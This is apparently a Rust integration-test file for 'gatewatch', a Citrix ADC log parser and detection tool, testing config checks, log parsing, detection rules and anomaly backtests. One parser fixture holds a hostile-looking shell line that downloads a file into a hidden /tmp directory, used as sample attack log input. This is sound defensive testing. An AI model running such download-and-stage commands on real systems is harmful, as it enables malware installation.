//! The command line: `check` names what is wrong, environment overrides files, `--version`/`--help`.

#![allow(clippy::unwrap_used)] // a test, benchmark or example: failing loudly is the point

use std::path::Path;
use std::process::{Command, Output};

fn gatewatch(dir: &Path, args: &[&str], env: &[(&str, &str)]) -> Output {
    let mut cmd = Command::new(env!("CARGO_BIN_EXE_gatewatch"));
    let rules = Path::new(env!("CARGO_MANIFEST_DIR")).join("rules");
    cmd.current_dir(dir).args(args).env_clear().env("GATEWATCH__DETECT__RULES_DIRS", rules);
    for (k, v) in env {
        cmd.env(k, v);
    }
    cmd.output().unwrap()
}

fn text(o: &Output) -> String {
    format!("{}{}", String::from_utf8_lossy(&o.stdout), String::from_utf8_lossy(&o.stderr))
}

fn check_with(file_text: &str, env: &[(&str, &str)]) -> Output {
    let dir = tempfile::tempdir().unwrap();
    std::fs::write(dir.path().join("gw.toml"), file_text).unwrap();
    gatewatch(dir.path(), &["check", "--config", "gw.toml"], env)
}

#[test]
fn check_accepts_the_shipped_defaults() {
    let root = Path::new(env!("CARGO_MANIFEST_DIR"));
    let out = gatewatch(root, &["check"], &[]);
    assert!(out.status.success(), "{}", text(&out));
    assert!(text(&out).contains("adc.raw"), "{}", text(&out));
}

#[test]
fn check_rejects_an_unknown_key_naming_it() {
    let out = check_with("[kafka]\nbootstrap = \"x:9092\"\n", &[]);
    assert!(!out.status.success());
    assert!(text(&out).contains("bootstrap"), "{}", text(&out));
}

#[test]
fn check_rejects_a_wrong_type_naming_the_key() {
    let out = check_with("[pipeline]\nshutdown_timeout = true\n", &[]);
    assert!(!out.status.success());
    assert!(text(&out).contains("shutdown_timeout"), "{}", text(&out));
    let out = check_with("[parse]\nmax_line = \"lots\"\n", &[]);
    assert!(!out.status.success());
    assert!(text(&out).contains("max_line"), "{}", text(&out));
}

#[test]
fn check_names_the_key_of_an_invalid_enum_value_zone_or_filter() {
    for (file, env, key, value) in [
        ("[kafka]\nstart_from = \"middle\"\n", vec![], "kafka.start_from", "middle"),
        ("[parse]\ntimezone = \"Mars/Olympus\"\n", vec![], "parse.timezone", "Mars/Olympus"),
        ("[devices.vpx1]\ntimezone = \"CEST\"\n", vec![], "devices.vpx1.timezone", "CEST"),
        ("[enrich.geoip]\nroles = [\"source\", \"satellite\"]\n", vec![], "enrich.geoip.roles", "satellite"),
        ("[parse.topic_datasets]\n\"adc.files\" = \"apache\"\n", vec![], "parse.topic_datasets.adc.files", "apache"),
        ("", vec![("GATEWATCH__LOG__LEVEL", "gatewatch=loud")], "log.level", "gatewatch=loud"),
        ("", vec![("GATEWATCH__TELEMETRY__OTLP_PROTOCOL", "smoke")], "telemetry.otlp_protocol", "smoke"),
    ] {
        let out = check_with(file, &env);
        assert!(!out.status.success(), "{file}{env:?} was accepted");
        let said = text(&out);
        assert!(said.contains(key) && said.contains(value), "{file}{env:?}: {said}");
    }
}

#[test]
fn an_empty_value_turns_an_optional_setting_off() {
    let out = check_with(
        "[enrich.geoip]\ncity_db = \"\"\n",
        &[("GATEWATCH__BASELINE__METRICS_TOPIC", ""), ("GATEWATCH__TELEMETRY__OTLP_ENDPOINT", "")],
    );
    assert!(out.status.success(), "{}", text(&out));
    assert!(text(&out).contains("city db off"), "{}", text(&out));
}

#[test]
fn check_rejects_a_missing_file_naming_it() {
    let dir = tempfile::tempdir().unwrap();
    let out = gatewatch(dir.path(), &["check", "--config", "does-not-exist.toml"], &[]);
    assert!(!out.status.success());
    assert!(text(&out).contains("does-not-exist.toml"), "{}", text(&out));
}

#[test]
fn check_rejects_a_guarantee_breaking_librdkafka_option() {
    let out = check_with("[kafka.producer_options]\n\"enable.idempotence\" = \"false\"\n", &[]);
    assert!(!out.status.success());
    assert!(text(&out).contains("enable.idempotence"), "{}", text(&out));
}

#[test]
fn environment_overrides_the_file() {
    let out = check_with(
        "[kafka]\nbrokers = \"file-broker:9092\"\ngroup_id = \"file-group\"\n",
        &[("GATEWATCH__KAFKA__BROKERS", "env-broker:9092")],
    );
    assert!(out.status.success(), "{}", text(&out));
    let t = text(&out);
    assert!(t.contains("env-broker:9092") && !t.contains("file-broker") && t.contains("file-group"), "{t}");
    let out = check_with("", &[("GATEWATCH__KAFKA__SESSION_TIMEOUT", "soon")]);
    assert!(!out.status.success());
    assert!(text(&out).contains("session_timeout"), "{}", text(&out));
}

#[test]
fn version_and_help() {
    let dir = tempfile::tempdir().unwrap();
    let out = gatewatch(dir.path(), &["--version"], &[]);
    assert_eq!(String::from_utf8_lossy(&out.stdout).trim(), format!("gatewatch {}", env!("CARGO_PKG_VERSION")));
    let out = gatewatch(dir.path(), &["--help"], &[]);
    let help = String::from_utf8_lossy(&out.stdout);
    assert!(help.contains("run") && help.contains("check") && help.contains("--config"), "{help}");
}

#[test]
fn parse_prints_one_ecs_object_per_record_and_pipeline_errors_for_the_rest() {
    let dir = tempfile::tempdir().unwrap();
    let file = dir.path().join("mixed.log");
    std::fs::write(
        &file,
        concat!(
            "<134> 01/10/2020:08:57:43 GMT vpx01 0-PPE-0 : default SSLVPN LOGIN 42 0 : Context alice@10.1.2.3 - SessionId: 9 - User alice\n",
            "\n",
            "Jan 19 24:26:52 <local7.notice> vpx01 bash[1297]: root on /dev/pts/0 shell_command=\"\n",
            "curl -k https://x/y -o /tmp/.init/httpd\"\n",
            "nothing to see here\n",
        ),
    )
    .unwrap();
    let out = gatewatch(dir.path(), &["parse", file.to_str().unwrap()], &[]);
    assert!(out.status.success(), "{}", text(&out));
    let docs: Vec<serde_json::Value> =
        String::from_utf8_lossy(&out.stdout).lines().map(|l| serde_json::from_str(l).unwrap()).collect();
    assert_eq!(docs.len(), 3, "{docs:?}");
    assert_eq!(docs[0]["event"]["dataset"], "citrix_adc.log");
    assert_eq!(docs[0]["user"]["name"], "alice");
    assert_eq!(docs[0]["gatewatch"]["source"]["line"], 1);
    assert_eq!(docs[1]["event"]["dataset"], "citrix_adc.shell");
    assert_eq!(docs[1]["process"]["command_line"], "curl -k https://x/y -o /tmp/.init/httpd");
    assert_eq!(docs[1]["gatewatch"]["source"]["line"], 3);
    assert_eq!(docs[2]["event"]["kind"], "pipeline_error");
    assert!(docs[2]["error"]["message"].as_str().unwrap().contains("no NetScaler header"));
}

#[test]
fn parse_stats_count_per_dataset_and_take_the_dataset_from_the_file_name() {
    let dir = tempfile::tempdir().unwrap();
    let file = dir.path().join("httperror.log");
    std::fs::write(&file, "wget: not found\n[Wed Jan 15 15:09:05 2020] [error] [client 1.2.3.4] File does not exist\n")
        .unwrap();
    let out = gatewatch(dir.path(), &["parse", "--stats", file.to_str().unwrap()], &[]);
    assert!(out.status.success(), "{}", text(&out));
    let stats = String::from_utf8_lossy(&out.stdout);
    let row: Vec<&str> =
        stats.lines().find(|l| l.starts_with("citrix_adc.httperror")).unwrap().split_whitespace().collect();
    assert_eq!(row, ["citrix_adc.httperror", "2", "0", "0"], "{stats}");
    // Without the file name's hint, the free-text stderr line is an error.
    let renamed = dir.path().join("other.log");
    std::fs::copy(&file, &renamed).unwrap();
    let out = gatewatch(dir.path(), &["parse", "--stats", renamed.to_str().unwrap()], &[]);
    let stats = String::from_utf8_lossy(&out.stdout);
    assert!(stats.lines().any(|l| l.split_whitespace().collect::<Vec<_>>() == ["-", "0", "0", "1"]), "{stats}");
    let out = gatewatch(dir.path(), &["parse", "--dataset", "apache", renamed.to_str().unwrap()], &[]);
    assert!(!out.status.success());
    assert!(text(&out).contains("apache"), "{}", text(&out));
}

#[test]
fn check_names_a_broken_rule_file_and_rules_test_runs_the_examples() {
    let dir = tempfile::tempdir().unwrap();
    let rules = dir.path().join("rules");
    std::fs::create_dir(&rules).unwrap();
    std::fs::write(rules.join("bad.yml"), "title: x\nid: y\ndetection:\n  sel: {a|nope: 1}\n  condition: sel\n")
        .unwrap();
    let rules_dir = rules.display().to_string();
    let out = gatewatch(dir.path(), &["check"], &[("GATEWATCH__DETECT__RULES_DIRS", &rules_dir)]);
    assert!(!out.status.success());
    assert!(text(&out).contains("bad.yml") && text(&out).contains("nope"), "{}", text(&out));

    let root = Path::new(env!("CARGO_MANIFEST_DIR"));
    let out = gatewatch(root, &["rules", "test"], &[]);
    assert!(out.status.success(), "{}", text(&out));
    assert!(text(&out).contains(" 0 failed"), "{}", text(&out));
    // A rule whose example no longer holds fails the run.
    std::fs::write(
        rules.join("bad.yml"),
        "title: x\nid: y\nlogsource: {product: citrix}\ndetection:\n  sel: {user.name: nobody}\n  condition: sel\n\
         gatewatch:\n  examples:\n    match: ['{\"user\": {\"name\": \"root\"}}']\n    no_match: ['{\"user\": {\"name\": \"x\"}}']\n",
    )
    .unwrap();
    let out = gatewatch(dir.path(), &["rules", "test"], &[("GATEWATCH__DETECT__RULES_DIRS", &rules_dir)]);
    assert!(!out.status.success());
    assert!(text(&out).contains("FAIL y") && text(&out).contains("did not fire"), "{}", text(&out));
}

#[test]
fn baseline_backtest_scores_every_row_with_the_configured_threshold() {
    let dir = tempfile::tempdir().unwrap();
    let input =
        Path::new(env!("CARGO_MANIFEST_DIR")).join("tests/fixtures/nab/artificialWithAnomaly/art_daily_jumpsup.csv");
    let output = dir.path().join("scores.csv");
    let args = ["baseline", "backtest", "--input", input.to_str().unwrap(), "--output", output.to_str().unwrap()];
    let out = gatewatch(dir.path(), &args, &[]);
    assert!(out.status.success(), "{}", text(&out));
    let scores = std::fs::read_to_string(&output).unwrap();
    let rows: Vec<&str> = scores.lines().collect();
    assert_eq!(rows[0], "timestamp,value,anomaly_score");
    assert_eq!(rows.len(), std::fs::read_to_string(&input).unwrap().lines().count());
    assert!(rows[1].starts_with("2014-04-01 00:00:00,"), "{}", rows[1]);
    let high = rows[1..].iter().filter(|r| r.rsplit(',').next().unwrap().parse::<f64>().unwrap() >= 0.45).count();
    assert!(
        text(&out).contains(&format!("{} rows, {high} at or above the threshold 0.45", rows.len() - 1)),
        "{}",
        text(&out)
    );
    assert!(high >= 1);
    // The threshold comes from the configuration, like the service's.
    let strict = gatewatch(dir.path(), &args, &[("GATEWATCH__BASELINE__ALERT_THRESHOLD", "1.0")]);
    assert!(text(&strict).contains("threshold 1"), "{}", text(&strict));
    // Unreadable input names the file and line.
    std::fs::write(dir.path().join("bad.csv"), "timestamp,value\nnot-a-time,1\n").unwrap();
    let bad = gatewatch(dir.path(), &["baseline", "backtest", "--input", "bad.csv", "--output", "o.csv"], &[]);
    assert!(!bad.status.success() && text(&bad).contains("bad.csv:2"), "{}", text(&bad));
}

/// Lays `files` out the way the kubelet mounts a ConfigMap volume: the files in a timestamped
/// `..<time>` directory, a `..data` symlink to it, and one symlink per file through `..data`.
fn kubelet_configmap_volume(dir: &Path, files: &[std::path::PathBuf]) {
    let stamp = "..2026_12_02_01_00_00.123456789";
    std::fs::create_dir_all(dir.join(stamp)).unwrap();
    for file in files {
        let name = file.file_name().unwrap();
        std::fs::copy(file, dir.join(stamp).join(name)).unwrap();
        std::os::unix::fs::symlink(Path::new("..data").join(name), dir.join(name)).unwrap();
    }
    std::os::unix::fs::symlink(stamp, dir.join("..data")).unwrap();
}

fn shipped_rule_files() -> Vec<std::path::PathBuf> {
    let dir = Path::new(env!("CARGO_MANIFEST_DIR")).join("rules/citrix");
    let mut files: Vec<_> = std::fs::read_dir(dir)
        .unwrap()
        .map(|e| e.unwrap().path())
        .filter(|p| p.extension().is_some_and(|e| e == "yml"))
        .collect();
    files.sort();
    files
}

#[test]
fn rules_mounted_as_a_kubelet_configmap_volume_load_once() {
    let root = Path::new(env!("CARGO_MANIFEST_DIR"));
    let plain = gatewatch(root, &["check"], &[]);
    assert!(plain.status.success(), "{}", text(&plain));
    let counts = |out: &Output| {
        let t = text(out);
        let line = t.lines().find(|l| l.starts_with("rules ok:")).unwrap_or_else(|| panic!("{t}")).to_owned();
        let numbers: Vec<usize> = line.split_whitespace().filter_map(|w| w.parse().ok()).collect();
        (numbers[0], numbers[1])
    };
    // Today's pack; a change to the pack changes these two numbers here and nowhere else.
    assert_eq!(counts(&plain), (16, 6), "{}", text(&plain));

    let dir = tempfile::tempdir().unwrap();
    let mounted = dir.path().join("rules");
    kubelet_configmap_volume(&mounted, &shipped_rule_files());
    let mounted_dir = mounted.display().to_string();
    let out = gatewatch(dir.path(), &["check"], &[("GATEWATCH__DETECT__RULES_DIRS", &mounted_dir)]);
    assert!(out.status.success(), "{}", text(&out));
    assert_eq!(counts(&out), (16, 6), "{}", text(&out));
}

#[test]
fn a_custom_rule_with_a_shipped_id_is_refused_naming_both_files() {
    let root = Path::new(env!("CARGO_MANIFEST_DIR"));
    let dir = tempfile::tempdir().unwrap();
    let custom = dir.path().join("custom-rules");
    // The custom directory is a ConfigMap volume too; its one rule reuses a shipped rule's id.
    let shipped = root.join("rules/citrix/cve-2019-19781-probe.yml");
    let copy = dir.path().join("my-probe.yml");
    std::fs::copy(&shipped, &copy).unwrap();
    kubelet_configmap_volume(&custom, &[copy]);
    let dirs = format!("{},{}", root.join("rules").display(), custom.display());
    let out = gatewatch(dir.path(), &["check"], &[("GATEWATCH__DETECT__RULES_DIRS", &dirs)]);
    assert!(!out.status.success(), "{}", text(&out));
    let t = text(&out);
    assert!(t.contains("duplicate id"), "{t}");
    assert!(t.contains("custom-rules/my-probe.yml") && t.contains("rules/citrix/cve-2019-19781-probe.yml"), "{t}");
}

#[test]
fn check_refuses_settings_this_build_cannot_honour_naming_the_key() {
    // librdkafka here has TLS and SCRAM but no Kerberos (libsasl2).
    let out = check_with("[kafka]\nsecurity_protocol = \"sasl_ssl\"\nsasl_mechanism = \"GSSAPI\"\n", &[]);
    assert!(!out.status.success());
    let t = text(&out);
    assert!(t.contains("kafka.sasl_mechanism") && t.contains("GSSAPI") && t.contains("sasl_gssapi"), "{t}");
    // An option librdkafka does not know, passed through.
    let out = check_with("[kafka.consumer_options]\n\"no.such.option\" = \"1\"\n", &[]);
    assert!(!out.status.success());
    assert!(text(&out).contains("kafka.consumer_options.\"no.such.option\""), "{}", text(&out));
    // A CA file that is not PEM.
    let dir = tempfile::tempdir().unwrap();
    let ca = dir.path().join("ca.crt");
    std::fs::write(&ca, "pem\n").unwrap();
    let out = check_with(&format!("[kafka]\nsecurity_protocol = \"ssl\"\nssl_ca_file = {ca:?}\n"), &[]);
    assert!(!out.status.success());
    assert!(text(&out).contains("kafka.ssl_ca_file") && text(&out).contains("not a PEM file"), "{}", text(&out));
    // What this build can do passes offline.
    let password = dir.path().join("password");
    std::fs::write(&password, "x\n").unwrap();
    let ok = format!(
        "[kafka]\nsecurity_protocol = \"sasl_plaintext\"\nsasl_mechanism = \"SCRAM-SHA-512\"\nsasl_username = \"gw\"\n\
         sasl_password_file = {password:?}\n"
    );
    let out = check_with(&ok, &[]);
    assert!(out.status.success(), "{}", text(&out));
}

#[test]
fn check_refuses_plain_http_nitro_unless_allowed() {
    let config = "[baseline.nitro]\nusername = \"nsroot\"\n[baseline.nitro.appliances]\nadc1 = \"http://192.0.2.10\"\n";
    let out = check_with(config, &[]);
    assert!(!out.status.success());
    let t = text(&out);
    assert!(t.contains("baseline.nitro.appliances.adc1") && t.contains("https://"), "{t}");
    let out = check_with(config, &[("GATEWATCH__BASELINE__NITRO__ALLOW_HTTP", "true")]);
    assert!(out.status.success(), "{}", text(&out));
}

#[test]
fn a_protected_option_is_refused_without_echoing_its_value() {
    let out = check_with("[kafka.consumer_options]\n\"sasl.password\" = \"Pr0tected-Secret-Value\"\n", &[]);
    assert!(!out.status.success());
    let t = text(&out);
    assert!(t.contains("sasl.password") && !t.contains("Pr0tected-Secret-Value"), "{t}");
}

/// Year-less and date-less records (BSD relay headers, NetScaler CEF, a time-only header, the appliance's
/// cron file) are read against the file's modification time and the record itself, never the wall
/// clock: parsed on two different days (libfaketime), the output is byte-identical.
#[test]
fn parsing_a_file_on_two_different_dates_gives_identical_output() {
    let dir = tempfile::tempdir().unwrap();
    let samples = Path::new(env!("CARGO_MANIFEST_DIR")).join("tests/fixtures/public-samples");
    let mut lines_in = String::new();
    for (file, lines) in [
        ("elastic-integrations-citrix_adc-test-citrix-waf-cef.log", 3),
        ("azure-sentinel-citrix-adc-sample.log", 3),
        ("fireeye-ioc-scanner-cron.log", 4),
    ] {
        let body = std::fs::read_to_string(samples.join(file)).unwrap();
        for line in body.lines().filter(|l| !l.starts_with('#')).take(lines) {
            lines_in.push_str(line);
            lines_in.push('\n');
        }
    }
    let log = dir.path().join("mixed.log");
    std::fs::write(&log, &lines_in).unwrap();
    // Written on 2 March 2021: December lines belong to 2020, the CEF records to their cs5 year.
    let written = std::time::UNIX_EPOCH + std::time::Duration::from_secs(1_614_643_200);
    std::fs::File::options().write(true).open(&log).unwrap().set_modified(written).unwrap();
    let run = |day: &str| {
        let out = Command::new("faketime")
            .arg(day)
            .arg(env!("CARGO_BIN_EXE_gatewatch"))
            .args(["parse", "mixed.log"])
            .current_dir(dir.path())
            .env("GATEWATCH__DETECT__RULES_DIRS", Path::new(env!("CARGO_MANIFEST_DIR")).join("rules"))
            .output()
            .expect("faketime (Debian package faketime; scripts/setup.sh installs it)");
        assert!(out.status.success(), "{}", text(&out));
        out.stdout
    };
    let a = run("2027-03-01 00:00:00");
    let b = run("2031-11-20 12:00:00");
    let lines: Vec<serde_json::Value> =
        a.split(|b| *b == b'\n').filter(|l| !l.is_empty()).map(|l| serde_json::from_slice(l).unwrap()).collect();
    assert_eq!(lines.len(), 10, "{}", String::from_utf8_lossy(&a));
    let stamps: Vec<&str> = lines.iter().map(|l| l["@timestamp"].as_str().unwrap()).collect();
    assert!(stamps[..3].iter().all(|t| t.starts_with("2015-06-")), "CEF years from cs5: {stamps:?}");
    assert!(stamps[3..6].iter().all(|t| t.starts_with("2021-03-02T")), "time-only headers: {stamps:?}");
    assert!(stamps[6..].iter().all(|t| t.starts_with("2021-01-")), "BSD cron lines: {stamps:?}");
    assert!(a == b, "output depends on the day it was parsed");
}
